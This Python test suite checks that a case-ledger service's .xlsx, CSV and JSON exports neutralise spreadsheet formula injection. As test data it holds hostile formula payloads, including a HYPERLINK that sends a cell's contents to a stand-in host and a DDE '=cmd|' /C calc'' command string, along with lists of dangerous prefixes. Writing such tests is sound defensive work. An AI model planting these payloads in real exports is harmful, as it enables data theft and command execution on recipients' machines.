"""No text of an export becomes a formula (OWASP's CSV-injection rule), numbers stay numbers.

Over HTTP (SQLite and PostgreSQL): files whose school and name begin with each formula prefix
are exported as .xlsx (masked and with identity), CSV and JSON; the .xlsx is opened with
openpyxl (no cell is a formula, every planted text is a string cell with a `'` in front, the
numbers are numeric cells), the CSV is parsed (every planted text neutralised, numbers bare).
JSON stays as typed (`projections.ledger.exports`). The formatting functions are also checked
directly with every prefix (tab, CR, LF, leading spaces, full-width forms) in every column and
in the title lines, which the API cannot be made to carry.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from domain.identity import mask_name
from domain.taxonomy import Role
from projections.ledger.exports import (
    FIRST_DATA_ROW,
    LEDGER_SHEET,
    ledger_csv,
    ledger_json,
    ledger_xlsx,
    neutralise,
)
from projections.ledger.view import COLUMNS, HEADERS
from tests.conftest import TokenFactory
from tests.integration.planted import planted_case

OFFICE = "chengguan-governance-office"
VILLAGE = "dongshan-village"

# What a spreadsheet may take for the start of a formula; written here independently of the
# module under test.
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_CONTROLS = ("\t", "\r", "\n")

# Schools (free text, up to 64 characters) the API accepts, one per formula prefix.
SCHOOLS = (
    '=HYPERLINK("http://probe.example/?"&G4,"点击查看")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    '＝HYPERLINK("http://probe.example")',
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
)
# Names (identity exports show them in full; masks keep the first character).
NAMES = ("=1+1张", "+1李", "-1王", "@A1赵", "＝1刘")


def formula_like(text: str) -> bool:
    if text.startswith(_CONTROLS):
        return True
    stripped = text.lstrip()
    return stripped.startswith(_STARTS) or stripped.startswith(_CONTROLS)


def _report(client: TestClient, auth: TokenFactory) -> dict[str, dict[str, str]]:
    planted: dict[str, dict[str, str]] = {}
    for number, school in enumerate(SCHOOLS):
        body = planted_case(VILLAGE, seed=500 + number).body
        body["minor"]["school"] = school
        body["minor"]["name"] = NAMES[number % len(NAMES)]
        created = client.post("/v1/cases", json=body, headers=auth(Role.REPORTER, VILLAGE))
        assert created.status_code == 201, created.text
        planted[created.json()["id"]] = {"school": school, "name": body["minor"]["name"]}
    client.app.state.services.readmodels.catch_up()  # type: ignore[attr-defined]
    return planted


def _export(client: TestClient, headers: dict[str, str], **params: Any) -> bytes:
    response = client.get("/v1/ledger/export", params=params, headers=headers)
    assert response.status_code == 200, response.text
    body: bytes = response.content
    return body


def _check_workbook(body: bytes) -> list[dict[str, Any]]:
    """No formula anywhere, no formula-like text; the ledger's lines with their cells."""
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    strings = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    strings += 1
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert not formula_like(cell.value), (sheet.title, cell.coordinate)
    assert strings, "no text cells: the check proves nothing"
    sheet = workbook[LEDGER_SHEET]
    headers = [str(c.value) for c in sheet[FIRST_DATA_ROW - 1]]
    lines = []
    for row in sheet.iter_rows(min_row=FIRST_DATA_ROW):
        line = {h: c for h, c in zip(headers, row, strict=True)}
        # Numbers stay numeric cells.
        assert line["序号"].data_type == "n" and isinstance(line["序号"].value, int)
        if line["年龄"].value not in (None, ""):
            assert line["年龄"].data_type == "n" and isinstance(line["年龄"].value, int)
        lines.append({h: c.value for h, c in line.items()})
    return lines


def test_exports_write_planted_formulas_as_neutralised_text(
    client: TestClient, auth: TokenFactory
) -> None:
    planted = _report(client, auth)
    headers = auth(Role.COORDINATOR, OFFICE, purpose="consultation")

    # .xlsx, masked: schools and masked names (which keep the formula's first character).
    lines = {line["档案编号"]: line for line in _check_workbook(_export(client, headers))}
    for case_id, values in planted.items():
        assert lines[case_id]["学校"] == "'" + values["school"]
        masked = mask_name(values["name"])
        assert lines[case_id]["姓名"] == ("'" + masked if formula_like(masked) else masked)
    # .xlsx with identity: full names too.
    named = _check_workbook(_export(client, headers, identity="true"))
    by_id = {line["档案编号"]: line for line in named}
    for case_id, values in planted.items():
        assert by_id[case_id]["姓名"] == "'" + values["name"]
        assert by_id[case_id]["学校"] == "'" + values["school"]

    # CSV, masked and with identity: parsed, every field safe, the numbers bare.
    for params in ({}, {"identity": "true"}):
        raw = _export(client, headers, format="csv", **params).decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(raw)))
        assert tuple(table[0]) == ("序号", *HEADERS)
        for line in table[1:]:
            for field in line:
                assert not formula_like(field), field
        rows = {line[1]: dict(zip(table[0], line, strict=True)) for line in table[1:]}
        for case_id, values in planted.items():
            assert rows[case_id]["学校"] == "'" + values["school"]
        for number, text_line in enumerate(raw.splitlines()[1:], start=1):
            assert text_line.startswith(f'{number},"'), "the line number is not a bare number"
        ages = [line[table[0].index("年龄")] for line in table[1:]]
        assert all(age.isdigit() for age in ages)
        assert f',{ages[0]},"' in raw, "the age is not a bare number"

    # JSON: the values as typed (data for programs; documented in projections.ledger.exports).
    document = json.loads(_export(client, headers, format="json", identity="true"))
    for row in document["rows"]:
        if row["id"] in planted:
            assert row["school"] == planted[row["id"]]["school"]
            assert row["name"] == planted[row["id"]]["name"]
            assert isinstance(row["age"], int)


DANGEROUS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u3000=1",
    "\xa0@1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "\t",
    "\u3000\u3000－2",
)
HARMLESS = ("东山村小学", "1+1", "a=1", "2026-01-01", "", "张*明", "'=already")


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralise_prefixes_every_formula_start(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert formula_like(value)


@pytest.mark.parametrize("value", [*HARMLESS, 5, 0, -3, None])
def test_neutralise_leaves_other_text_and_numbers_alone(value: Any) -> None:
    assert neutralise(value) == value


def test_the_formatters_neutralise_every_column_and_the_titles() -> None:
    """Each dangerous value in every column of a line (and in the titles); numbers typed."""
    columns = COLUMNS
    lines: list[list[Any]] = []
    for shift, _ in enumerate(DANGEROUS):
        line: list[Any] = [DANGEROUS[(shift + i) % len(DANGEROUS)] for i in range(len(columns))]
        line[[c.key for c in columns].index("age")] = 11 + shift
        lines.append(line)
    body = ledger_xlsx(title='=HYPERLINK("x")', subtitle="@title", columns=columns, lines=lines)
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    sheet = workbook[LEDGER_SHEET]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not formula_like(cell.value), cell.coordinate
    assert sheet["A1"].value == '\'=HYPERLINK("x")'
    for number, row in enumerate(sheet.iter_rows(min_row=FIRST_DATA_ROW), start=1):
        values = [c.value for c in row]
        assert values[0] == number
        # XML reads a carriage return back as a line feed; the `'` stays in front.
        expected = [neutralise(v) for v in lines[number - 1]]
        assert values[1:] == [v.replace("\r", "\n") if isinstance(v, str) else v for v in expected]
        age = row[1 + [c.key for c in columns].index("age")]
        assert age.data_type == "n" and age.value == 10 + number

    table = list(csv.reader(io.StringIO(ledger_csv(columns, lines).decode("utf-8-sig"))))
    for number, line in enumerate(table[1:], start=1):
        assert line[0] == str(number)
        assert line[1:] == [str(neutralise(v)) for v in lines[number - 1]]
        assert not any(formula_like(field) for field in line)

    meta = {"street": "s", "village": None, "as_of": "2026-01-01"}
    document = json.loads(ledger_json(columns, lines, meta))
    assert [list(r.values()) for r in document["rows"]] == lines  # JSON stays as typed
